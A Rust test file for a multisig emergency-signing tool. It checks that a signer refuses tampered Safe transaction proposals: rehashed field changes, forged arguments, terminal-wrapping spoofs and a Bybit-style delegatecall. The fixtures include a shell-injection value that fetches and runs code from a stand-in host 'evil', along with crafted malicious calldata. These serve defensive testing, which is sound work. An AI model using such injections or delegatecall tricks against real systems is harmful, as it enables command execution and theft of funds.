//! Proposals, playbooks and council files that somebody changed before they reached the signer.

use std::fs;

use alloy::primitives::{Address, B256, Bytes, U256};
use breakglass::playbook::PlaybookDigest;
use breakglass::safe::{Nonce, Operation, SafeId, SafeTx};
use serde_json::{Value, json};

use crate::stage::{Ceremony, Desk, Terminal, key};
use crate::steps::{
    acceptance, accepting, path, propose, read_json, refused, refused_without_a_trace, run, sign, try_sign,
    two_of_three, with_key,
};

pub const STRANGER: &str = "0x1111111111111111111111111111111111111111";

/// The proposal that bob is handed, with one field changed.
pub fn hand_over(bob: &Desk, proposal: &Value) -> String {
    let file = bob.path("handed-over.json");
    fs::write(&file, format!("{proposal:#}\n")).unwrap();
    path(&file).to_string()
}

pub fn changed(proposal: &Value, pointer: &str, to: &Value) -> Value {
    let mut altered = proposal.clone();
    *altered.pointer_mut(pointer).unwrap_or_else(|| panic!("no {pointer}")) = to.clone();
    altered
}

/// Makes every hash and digest in the file fit its contents again, as a careful attacker does.
pub fn rehashed(mut proposal: Value) -> Value {
    fn read<T: std::str::FromStr<Err: std::fmt::Debug>>(value: &Value) -> T {
        value.as_str().unwrap().parse().unwrap()
    }
    let (safe, tx) = (&proposal["safe"], &proposal["transaction"]);
    let id = SafeId {
        chain_id: read(&proposal["chain_id"]),
        address: read(&safe["address"]),
        version: read(&safe["version"]),
    };
    let tx = SafeTx {
        to: read(&tx["to"]),
        value: read(&tx["value"]),
        data: read::<Bytes>(&tx["data"]),
        operation: Operation::from_u8(u8::try_from(tx["operation"].as_u64().unwrap()).unwrap()).unwrap(),
        safe_tx_gas: read(&tx["safe_tx_gas"]),
        base_gas: read(&tx["base_gas"]),
        gas_price: read(&tx["gas_price"]),
        gas_token: read(&tx["gas_token"]),
        refund_receiver: read(&tx["refund_receiver"]),
        nonce: Nonce(read::<U256>(&tx["nonce"])),
    };
    let hashes = id.hashes(&tx);
    proposal["hashes"] = json!({
        "domain_hash": hashes.domain.to_string(),
        "message_hash": hashes.message.to_string(),
        "safe_tx_hash": hashes.safe_tx.to_string(),
    });
    let digest = PlaybookDigest::of(proposal["levers"][0]["text"].as_str().unwrap());
    proposal["levers"][0]["digest"] = json!(digest.to_string());
    proposal
}

/// Signs what was handed over; nothing may be left at the desk, least of all a signature.
#[track_caller]
pub fn bob_refuses(bob: &Desk, proposal: &Value, more: &[&str], code: i32, named: &[&str]) {
    let file = hand_over(bob, proposal);
    let words = with_key(bob, &[&["sign", &file, "--yes"], more].concat());
    let run = refused_without_a_trace(bob, &words, code, named);
    assert!(run.stdout.is_empty(), "a line was given out: {}", run.stdout);
}

pub fn handed(ceremony: &Ceremony) -> (&Desk, Value) {
    (&ceremony.desks[1], read_json(&propose(&ceremony.desks[0])))
}

/// Fields that the hashes cover. Altered alone, the file contradicts itself; altered with all hashes made to fit, it
/// is not what bob's own playbook gives. Online and offline.
#[test]
fn each_field_of_the_transaction_altered_in_turn() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    let stranger = json!(STRANGER);
    for (pointer, to, named) in [
        ("/chain_id", json!("5"), "on chain 5"),
        ("/safe/address", stranger.clone(), STRANGER),
        ("/safe/version", json!("1.2.0"), "1.2.0"),
        ("/transaction/to", stranger.clone(), "to is 0x1111"),
        ("/transaction/value", json!("1"), "value is 1 in the file"),
        ("/transaction/data", json!("0x3f4ba83a"), "data is 0x3f4ba83a"),
        ("/transaction/operation", json!(1), "operation is delegatecall"),
        ("/transaction/safe_tx_gas", json!("1"), "safeTxGas is 1"),
        ("/transaction/base_gas", json!("1"), "baseGas is 1"),
        ("/transaction/gas_price", json!("1"), "gasPrice is 1"),
        ("/transaction/gas_token", stranger.clone(), "gasToken is 0x1111"),
        ("/transaction/refund_receiver", stranger, "refundReceiver is 0x1111"),
        ("/levers/0/text", json!("schema = 1\n"), "playbook text is"),
    ] {
        let altered = changed(&good, pointer, &to);
        bob_refuses(bob, &altered, &[], 4, &["the file was altered"]);
        for more in [&[][..], &["--offline"]] {
            bob_refuses(bob, &rehashed(altered.clone()), more, 4, &[named]);
        }
    }
    let zero = json!(B256::ZERO.to_string());
    for (pointer, named) in [
        ("/hashes/domain_hash", "domain hash"),
        ("/hashes/message_hash", "message hash"),
        ("/hashes/safe_tx_hash", "safeTxHash"),
        ("/levers/0/digest", "playbook digest"),
    ] {
        bob_refuses(bob, &changed(&good, pointer, &zero), &[], 4, &[named, "the file was altered"]);
    }
}

/// Versions that hash alike: the chain tells them apart, and offline the council file's pin.
#[test]
fn another_version_that_hashes_the_same_is_refused_all_the_same() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    for version in ["1.3.0", "1.5.0"] {
        let altered = changed(&good, "/safe/version", &json!(version));
        bob_refuses(bob, &altered, &[], 4, &["Safe version", version, "1.4.1"]);
        bob_refuses(bob, &altered, &["--offline"], 4, &[version]);
    }
}

/// Fields that say where the transaction comes from.
#[test]
fn each_field_of_the_binding_altered_in_turn() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    for (pointer, to, named) in [
        ("/levers/0/playbook", json!("pause/oz-pausable-undo"), "playbook is pause/oz-pausable-undo"),
        ("/levers/0/playbook", json!("pause/unheard-of"), "pause/unheard-of"),
        ("/levers/0/lever", json!("other"), "no lever is called \"other\""),
        ("/pull/names", json!(["other"]), "pulled is other in the file and vault by your files"),
        ("/pull/without", json!(["bridge"]), "pulled is vault --without bridge in the file"),
        ("/pull/undo", json!(true), "an undo of lever vault"),
        ("/levers/0/arguments", json!({ "target": STRANGER }), "target = 0x1111"),
        ("/levers/0/arguments", json!({}), "missing"),
        ("/levers/0/arguments", json!({ "target": "vault", "amount": "7" }), "amount"),
    ] {
        for more in [&[][..], &["--offline"]] {
            bob_refuses(bob, &changed(&good, pointer, &to), more, 4, &[named]);
        }
    }
}

/// The Safe as the file describes it: the chain says otherwise.
#[test]
fn each_field_of_the_snapshot_altered_in_turn() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    let with_stranger = json!([ceremony.setup.owners[0], ceremony.setup.owners[1], STRANGER]);
    for (pointer, to, named) in [
        ("/safe/owners", with_stranger, "owners"),
        ("/safe/threshold", json!(1), "threshold"),
        ("/safe/singleton", json!(STRANGER), "singleton"),
        ("/safe/guard", json!(STRANGER), "guard"),
        ("/safe/module_guard", json!(STRANGER), "module guard"),
        ("/safe/fallback_handler", json!(STRANGER), "fallback handler"),
        ("/safe/modules", json!([STRANGER]), "modules"),
    ] {
        let named = ["safe-never-so:", "the file states values that the Safe never had", named];
        bob_refuses(bob, &changed(&good, pointer, &to), &[], 4, &named);
    }
    // Offline the pins of bob's own council file are what remains.
    let with_stranger = json!([ceremony.setup.owners[0], ceremony.setup.owners[1], STRANGER]);
    bob_refuses(bob, &changed(&good, "/safe/owners", &with_stranger), &["--offline"], 5, &[STRANGER]);
    bob_refuses(
        bob,
        &changed(&good, "/safe/threshold", &json!(1)),
        &["--offline"],
        5,
        &["threshold: 1 in the Safe"],
    );
    bob_refuses(bob, &changed(&good, "/safe/singleton", &json!(STRANGER)), &["--offline"], 4, &[STRANGER]);
}

/// Fields that are not part of the transaction do not change its hashes.
#[test]
fn fields_outside_the_transaction_change_no_signature() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    let expected = sign(bob, &["vault"]);
    for (n, (pointer, to)) in [
        ("/block/number", json!(u64::MAX)),
        ("/block/hash", json!(B256::ZERO.to_string())),
        ("/accepted", json!(["not-your-playbook", "delegatecall"])),
        ("/readings", json!([])),
        ("/safe/nonce", json!("7")),
    ]
    .into_iter()
    .enumerate()
    {
        let desk = ceremony.outsider(&format!("bob-{n}"), bob.key);
        let file = hand_over(&desk, &changed(&good, pointer, &to));
        assert_eq!(sign(&desk, &[&file]), expected, "{pointer}");
    }
}

/// An acceptance that a file states counts for no other signer.
#[test]
fn an_acceptance_in_the_file_accepts_nothing() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    let altered = changed(&good, "/transaction/to", &json!(STRANGER));
    let altered = rehashed(altered);
    let flags = acceptance(&try_sign(bob, &[&hand_over(bob, &altered)]), &["not-your-playbook"]);
    let altered = changed(&altered, "/accepted", &json!([flags[1], "delegatecall"]));
    bob_refuses(bob, &altered, &[], 4, &["not-your-playbook"]);
}

/// A playbook of the library with a stranger's arguments: every reader has the playbook and none chose the arguments.
#[test]
fn a_strangers_arguments_are_not_bobs() {
    let ceremony = two_of_three();
    let [alice, bob, _] = &ceremony.desks[..] else { unreachable!() };
    let (old, new) = (ceremony.setup.owners[2].to_string(), key(8).address.to_string());
    let made = alice
        .run(&[
            "--json",
            "rotate",
            "--playbook",
            "rotate/safe-swap-owner",
            "--safe",
            "guardian",
            "--set",
            &format!("old={old}"),
            "--set",
            &format!("new={new}"),
        ])
        .ended(0)
        .json();
    let proposal = read_json(&alice.path(made["proposal"].as_str().unwrap()));
    for more in [&[][..], &["--offline"]] {
        bob_refuses(bob, &proposal, more, 4, &["not-your-arguments", &new, "no lever of yours"]);
    }
    let file = hand_over(bob, &proposal);
    accepting(&["not-your-arguments"], |words| try_sign(bob, &[&[file.as_str()], words].concat())).ended(0);
    // Saying other values than the file's is not a way round either.
    let carol = &ceremony.desks[2];
    let file = hand_over(carol, &proposal);
    let other = format!("new={}", key(7).address);
    let own = [file.as_str(), "--set", &other, "--set", &format!("old={old}")];
    refused(try_sign(carol, &own), 4, &["not-your-playbook", &new, &key(7).address.to_string()]);
    // Heard in person and said on the own command line, they are the signer's own.
    let heard = format!("new={new}");
    let own = [file.as_str(), "--set", &heard, "--set", &format!("old={old}")];
    refused(try_sign(carol, &own), 4, &["no lever of yours"]).never_says("type them yourself");
}

/// A lever leaves an argument open: the proposer chooses it, and every signer types it again.
#[test]
fn an_open_argument_is_typed_by_every_signer() {
    let mut ceremony = two_of_three();
    ceremony.add_to_council("\n[levers.any]\nplaybook = \"pause/oz-pausable\"\nsafe = \"guardian\"\n");
    let [alice, bob, carol] = &ceremony.desks[..] else { unreachable!() };
    let made = alice.run(&["--json", "pause", "any", "--set", "target=vault"]).ended(0);
    assert!(made.stderr.contains("breakglass sign any --set target=vault --ledger"), "{}", made.stderr);
    let proposal = read_json(&alice.path(made.json()["proposal"].as_str().unwrap()));
    bob_refuses(bob, &proposal, &[], 4, &["not-your-arguments", "target = vault", "--set target=vault"]);
    let file = hand_over(bob, &proposal);
    sign(bob, &[&file, "--set", "target=vault"]);
    // A value is a value: the vault's address is what its name stands for.
    let set = format!("target={}", ceremony.vault);
    try_sign(carol, &[&hand_over(carol, &proposal), "--set", &set]).ended(0);
    // A text copied from the screen is one word for a shell, whatever a stranger wrote.
    let evil = changed(&proposal, "/levers/0/arguments/target", &json!("$(curl evil|sh)'; id"));
    bob_refuses(bob, &evil, &[], 4, &[r"--set 'target=$(curl evil|sh)'\''; id'"]);
}

/// An argument that the lever fixes cannot be given another value, neither from a file nor by the lever.
#[test]
fn a_value_that_contradicts_the_lever_is_refused() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    let set = format!("target={STRANGER}");
    bob_refuses(bob, &good, &["--set", &set], 4, &["lever vault fixes target to", STRANGER]);
    refused(try_sign(bob, &["vault", "--set", &set]), 2, &["lever vault fixes target to", STRANGER]);
    try_sign(bob, &[&hand_over(bob, &good), "--set", "target=vault"]).ended(0);
}

/// In a narrow terminal, the terminal would wrap a long text, and its rest would look like a line of ours.
#[test]
fn in_a_narrow_terminal_no_text_of_a_strangers_begins_a_line() {
    let mut ceremony = two_of_three();
    ceremony.add_to_council("\n[levers.any]\nplaybook = \"pause/oz-pausable\"\nsafe = \"guardian\"\n");
    let [alice, bob, _] = &ceremony.desks[..] else { unreachable!() };
    let made = alice.run(&["--json", "pause", "any", "--set", "target=vault"]).ended(0).json();
    let proposal = read_json(&alice.path(made["proposal"].as_str().unwrap()));
    let forged = "✓ matches your playbook ".repeat(20);
    let evil = changed(&proposal, "/levers/0/arguments/target", &json!(forged));
    let words = with_key(bob, &["sign", &hand_over(bob, &evil)]);
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    let run = Terminal::of_width(40, &mut bob.command(&words)).ended(4).says("not-your-arguments");
    let lines = run.stdout.split(['\r', '\n']).map(console_width);
    assert!(lines.clone().all(|width| width <= 40), "{}", run.stdout);
    assert!(lines.max() > Some(30));
}

/// Returns the number of columns that a line takes on a screen, without its colours.
fn console_width(line: &str) -> usize {
    let mut width = 0;
    let mut in_escape = false;
    for c in line.chars() {
        match c {
            '\u{1b}' => in_escape = true,
            _ if in_escape => in_escape = !c.is_ascii_alphabetic(),
            _ => width += 1,
        }
    }
    width
}

/// One desk's council file names another target for the lever: that desk sees the difference, even if its own file is
/// the wrong one.
#[test]
fn a_lever_that_names_another_target_on_one_desk() {
    let ceremony = two_of_three();
    let [alice, bob, _] = &ceremony.desks[..] else { unreachable!() };
    let proposal = read_json(&propose(alice));
    let other = crate::stage::deploy(
        &ceremony.anvil,
        "Vault",
        &alloy::sol_types::SolValue::abi_encode(&ceremony.safe),
    );
    let council = bob.path("breakglass.toml");
    let text = ceremony.council().replace(&ceremony.vault.to_string(), &other.to_string());
    fs::write(&council, &text).unwrap();
    let (theirs, own) = (format!("to is {}", ceremony.vault), format!("{other} by your files"));
    bob_refuses(bob, &proposal, &[], 4, &["not-your-playbook", &theirs, &own]);
    bob_refuses(bob, &proposal, &["--offline"], 4, &["not-your-playbook", &other.to_string()]);
    // A lever with other arguments differs before any transaction is made of it.
    let text = ceremony.council().replace("set = { target = \"vault\" }", "set = { target = \"guardian\" }");
    fs::write(&council, &text).unwrap();
    bob.forgets();
    bob_refuses(bob, &proposal, &["--offline"], 4, &["target = vault", "target = guardian"]);
    // From the lever alone he makes another transaction, and its hash tells: alice cannot take his line for hers.
    fs::write(&council, ceremony.council().replace(&ceremony.vault.to_string(), &other.to_string())).unwrap();
    bob.forgets();
    let line = sign(bob, &["vault"]);
    let taken = crate::steps::try_import(alice, &["vault"], &line);
    refused(taken, 4, &["bob signed from council file", "pull"]);
}

/// The council's own playbook was changed on one desk.
#[test]
fn a_council_playbook_that_differs_on_one_desk() {
    let ceremony = two_of_three();
    let [alice, bob, _] = &ceremony.desks[..] else { unreachable!() };
    // Without its example, which would give a changed call away before anything is compared.
    let text = include_str!("../../playbooks/pause/oz-pausable.toml").split("[example]").next().unwrap();
    for desk in [alice, bob] {
        fs::create_dir(desk.path("playbooks")).unwrap();
        fs::write(desk.path("playbooks/pause.toml"), text).unwrap();
    }
    let proposal = read_json(&propose(alice));
    // The call, and only a sentence: either is another playbook.
    for (from, to) in [("call = \"pause()\"", "call = \"unpause()\""), ("Calls pause()", "Calls Pause()")] {
        fs::write(bob.path("playbooks/pause.toml"), text.replace(from, to)).unwrap();
        bob.forgets();
        for more in [&[][..], &["--offline"]] {
            bob_refuses(bob, &proposal, more, 4, &["not-your-playbook", "playbook text is"]);
        }
    }
    // One that cannot be read is named with line and caret.
    fs::write(bob.path("playbooks/pause.toml"), text.replace("[[step]]", "[[stop]]")).unwrap();
    let words = with_key(bob, &["sign", "vault", "--yes"]);
    let fault = run(bob, &words).ended(1).says("playbooks/pause.toml:").says("stop").says("^");
    assert!(fault.stdout.is_empty());
}

/// A delegatecall to code that looks like a token transfer and replaces the implementation; all hashes are correct.
#[test]
fn the_bybit_transaction_is_refused_by_name() {
    let ceremony = two_of_three();
    let (bob, good) = handed(&ceremony);
    let evil: Address = crate::stage::deploy(&ceremony.anvil, "Evil", &[]);
    let data = format!("0xa9059cbb{:0>64}{:0>64}", &STRANGER[2..], "0");
    let mut altered = changed(&good, "/transaction/to", &json!(evil));
    altered = changed(&altered, "/transaction/data", &json!(data));
    altered = rehashed(changed(&altered, "/transaction/operation", &json!(1)));
    bob_refuses(bob, &altered, &[], 4, &["not-your-playbook", "delegatecall", &evil.to_string()]);
    // Not even somebody who waives the playbook signs it by accident.
    let file = hand_over(bob, &altered);
    let run = accepting(&["not-your-playbook"], |words| try_sign(bob, &[&[file.as_str()], words].concat()));
    refused(run, 4, &["refused (delegatecall:", &evil.to_string()]);
}
